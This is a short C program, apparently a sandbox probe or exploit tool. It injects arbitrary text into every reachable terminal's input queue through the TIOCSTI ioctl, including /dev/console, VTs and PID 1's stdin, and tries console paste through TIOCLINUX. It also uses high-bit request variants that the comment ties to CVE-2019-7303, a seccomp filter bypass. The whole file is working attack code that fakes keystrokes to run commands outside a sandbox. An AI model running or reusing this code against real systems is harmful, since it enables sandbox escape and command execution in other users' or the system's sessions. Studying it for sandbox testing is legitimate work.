/* SPDX-License-Identifier: MIT */
/*
 * tty TEXT: put TEXT into the input of every terminal that we have or can have,
 * as if it had been typed; or have the console paste it. Also with bits set
 * above those that the kernel looks at (CVE-2019-7303).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static void type(int fd, const char *name, unsigned long request,
                 const char *text)
{
	int done = 0;

	for (; *text; text++)
		done += !syscall(SYS_ioctl, fd, request, text);
	if (done)
		printf("typed into %s by %lx\n", name, request);
}

static void attack(int fd, const char *name, const char *text)
{
	char paste = 3;

	ioctl(fd, TIOCSCTTY, 1);
	type(fd, name, TIOCSTI, text);
	type(fd, name, TIOCSTI | 1ul << 32, text);
	type(fd, name, TIOCSTI | 0xdeadul << 48, text);
	if (!ioctl(fd, TIOCLINUX, &paste) ||
	    !syscall(SYS_ioctl, fd, TIOCLINUX | 1ul << 40, &paste))
		printf("pasted into %s\n", name);
}

int main(int argc, char **argv)
{
	static const char *const names[] = {
		"/dev/tty",     "/dev/console",    "/dev/pts/0",
		"/dev/pts/1",   "/proc/self/fd/1", "/proc/self/fd/2",
		"/proc/1/fd/0", "/dev/tty0",       "/dev/tty1",
	};

	if (argc < 2)
		return 2;
	for (int fd = 0; fd < 3; fd++)
		attack(fd, "a standard descriptor", argv[1]);
	for (int i = 0; i < 9; i++) {
		int fd = open(names[i], O_RDWR | O_NOCTTY | O_NONBLOCK);

		if (fd >= 0)
			attack(fd, names[i], argv[1]);
		close(fd);
	}
	return 0;
}
